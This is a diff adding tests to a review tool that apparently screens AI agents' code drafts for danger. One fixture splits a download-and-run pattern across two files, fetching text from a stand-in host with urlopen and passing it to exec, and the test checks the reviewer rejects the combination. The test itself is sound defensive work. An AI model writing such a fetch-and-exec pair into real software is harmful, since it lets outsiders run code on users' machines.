@@ -17,6 +17,7 @@ from genloom.tools.checks import (
     requested_capabilities,
     review_draft,
     review_source,
+    weigh_review,
 )
 from genloom.tools.checks.static.bandit_scan import has_bandit
 
@@ -41,6 +42,47 @@ async def test_an_undefined_name_is_sent_back_with_its_line() -> None:
     review = await review_draft(draft("def f(x):\n    return y\n"), asked("something"))
     assert review.decision == "revise"
     assert (review.findings[0].rule, review.findings[0].line, review.findings[0].path) == ("F821", 2, "m.py")
+
+
+async def test_a_hostile_pair_is_found_across_files() -> None:
+    """What one file fetches and another runs is no better than both in one."""
+    halves = (
+        FileChange(
+            path="fetch.py", content="import urllib.request\n\nDATA = urllib.request.urlopen('http://x.example')\n"
+        ),
+        FileChange(path="run.py", content="def go(text):\n    exec(text)\n"),
+    )
+    both = await review_draft(Draft(changes=halves, generator="agent"), asked("something"))
+    assert both.decision == "reject"
+    assert [f.path for f in both.findings if f.rule == "combination:network+dynamic_code"] == ["run.py"]
+    for half in halves:
+        alone = await review_draft(Draft(changes=(half,), generator="agent"), asked("something"))
+        assert not any(f.rule.startswith("combination:") for f in alone.findings)
+
+
+@pytest.mark.parametrize(
+    ("path", "decision"), [("evil.pth", "revise"), ("setup.sh", "revise"), ("notes.md", "approve")]
+)
+async def test_what_no_pass_reads_is_told(path: str, decision: str) -> None:
+    """A file that is no Python is a finding; one that machines run goes before a person."""
+    changes = (FileChange(path="m.py", content="X = 1\n"), FileChange(path=path, content="import os\n"))
+    review = await review_draft(Draft(changes=changes, generator="agent"), asked("something"))
+    assert review.decision == decision
+    assert [(f.rule, f.path) for f in review.findings] == [("unread", path)]
+    noted = ReviewPolicy(rules={"unread": "note"})
+    assert (
+        await review_draft(Draft(changes=changes, generator="agent"), asked("x y"), policy=noted)
+    ).decision == "approve"
+
+
+def test_a_models_review_is_never_milder_than_its_findings() -> None:
+    """It cannot approve of what it calls a blocker, and the policy weighs its rules, too."""
+    found = Finding(rule="model:bug", severity="blocker", message="wrong")
+    said = Review(decision="approve", findings=(found,), reviewers=("m",))
+    assert weigh_review(said, ReviewPolicy()).decision == "reject"
+    harmless = said.model_copy(update={"findings": (found.model_copy(update={"severity": "note"}),)})
+    assert weigh_review(harmless, ReviewPolicy()) == harmless
+    assert weigh_review(harmless.model_copy(update={"decision": "revise"}), ReviewPolicy()).decision == "revise"
 
 
 async def test_inline_suppressions_are_ignored() -> None:
